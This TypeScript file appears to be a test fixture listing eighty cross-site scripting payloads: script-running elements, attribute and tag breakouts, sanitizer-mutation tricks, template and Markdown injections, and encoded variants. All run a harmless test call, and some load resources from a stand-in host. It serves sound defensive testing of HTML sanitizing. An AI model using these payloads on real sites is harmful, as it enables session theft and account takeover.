/**
 * Eighty texts that run a script where a page takes text for markup (T50). What they run is `ran(1)`, which a test
 * defines; every element that they would make is marked by `data-q`, every address that they would fetch is
 * `https://q.example/`.
 */

const run = 'ran(1)'
const out = 'https://q.example/'

/** Elements that run something as soon as they are there. */
const ELEMENTS = [
  `<script data-q>${run}</script>`,
  `<ScRiPt data-q>${run}</sCrIpT>`,
  `<script data-q src="${out}x.js"></script>`,
  `<script data-q type="module">${run}</script>`,
  `<script/data-q>${run}</script`,
  `<img data-q src=x onerror=${run}>`,
  `<img data-q src="x" onerror="${run}"//`,
  `<img/data-q/src/onerror=${run}>`,
  `<image data-q src=x onerror=${run}>`,
  `<img data-q srcset="x 1x" onerror=${run}>`,
  `<svg data-q onload=${run}>`,
  `<svg data-q><script>${run}</script></svg>`,
  `<svg data-q><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg data-q><set onbegin=${run} attributeName=x>`,
  `<svg data-q><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"></use></svg>`,
  `<svg data-q><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg data-q><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<math data-q><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<iframe data-q srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe data-q src="javascript:parent.${run}"></iframe>`,
  `<object data-q data="javascript:${run}"></object>`,
  `<embed data-q src="javascript:${run}">`,
  `<video data-q><source onerror=${run}></video>`,
  `<audio data-q src=x onerror=${run}></audio>`,
  `<details data-q open ontoggle=${run}>x</details>`,
  `<input data-q autofocus onfocus=${run}>`,
  `<select data-q autofocus onfocus=${run}></select>`,
  `<textarea data-q autofocus onfocus=${run}></textarea>`,
  `<button data-q autofocus onfocus=${run}>x</button>`,
  `<p data-q tabindex=0 autofocus onfocus=${run}>x</p>`,
  `<marquee data-q onstart=${run}>x</marquee>`,
  `<body data-q onload=${run}>`,
  `<body data-q onpageshow=${run}>`,
  `<xss data-q style="animation-name:x" onanimationstart=${run}>x</xss>`,
  `<style data-q>@keyframes x{}</style><xss data-q style="animation:x" onanimationend=${run}></xss>`,
  `<div data-q onpointerrawupdate=${run} style="position:fixed;inset:0">x</div>`,
  `<dialog data-q open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<template data-q shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<div data-q popover onbeforetoggle=${run}>x</div>`,
  `<link data-q rel=stylesheet href="${out}x.css">`,
  `<link data-q rel=prefetch href="${out}x">`,
  `<style data-q>@import '${out}x.css';</style>`,
  `<meta data-q http-equiv=refresh content="0;url=${out}">`,
  `<meta data-q http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  `<base data-q href="${out}">`,
  `<form data-q action="javascript:${run}"><button>x</button></form>`,
  `<form data-q><button formaction="javascript:${run}">x</button></form>`,
  `<a data-q href="javascript:${run}" ping="${out}">x</a>`,
  `<a data-q href="java&Tab;script:${run}">x</a>`,
  `<area data-q href="javascript:${run}">`,
] as const

/** Ways out of where a text stands: attributes, scripts, comments, raw text. */
const WAYS_OUT = [
  `"><img data-q src=x onerror=${run}>`,
  `'><img data-q src=x onerror=${run}>`,
  `" data-q onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' data-q onmouseover='${run}' autofocus onfocus='${run}' x='`,
  `x data-q onfocus=${run} autofocus`,
  `</script><script data-q>${run}</script>`,
  `</script><svg data-q onload=${run}>`,
  `";${run}//`,
  `';${run}//`,
  `\\";${run}//`,
  `\`;\${${run}}//`,
  `--><script data-q>${run}</script>`,
  `</title><script data-q>${run}</script>`,
  `</textarea><img data-q src=x onerror=${run}>`,
  `</style><img data-q src=x onerror=${run}>`,
  `]]><script data-q>${run}</script>`,
  `<noscript><p title="</noscript><img data-q src=x onerror=${run}>">`,
  `<!--<img src="--><img data-q src=x onerror=${run}>">`,
] as const

/** Texts that something else than HTML would take for code. */
const OTHER_TONGUES = [
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `<javascript:${run}>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `&lt;script data-q&gt;${run}&lt;/script&gt;`,
  `\\u003cscript data-q\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript data-q%3E${run}%3C/script%3E`,
  `＜script data-q＞${run}＜/script＞`,
  `+ADw-script data-q+AD4-${run}+ADw-/script+AD4-`,
] as const

export const SCRIPT_PAYLOADS: readonly string[] = [...ELEMENTS, ...WAYS_OUT, ...OTHER_TONGUES]
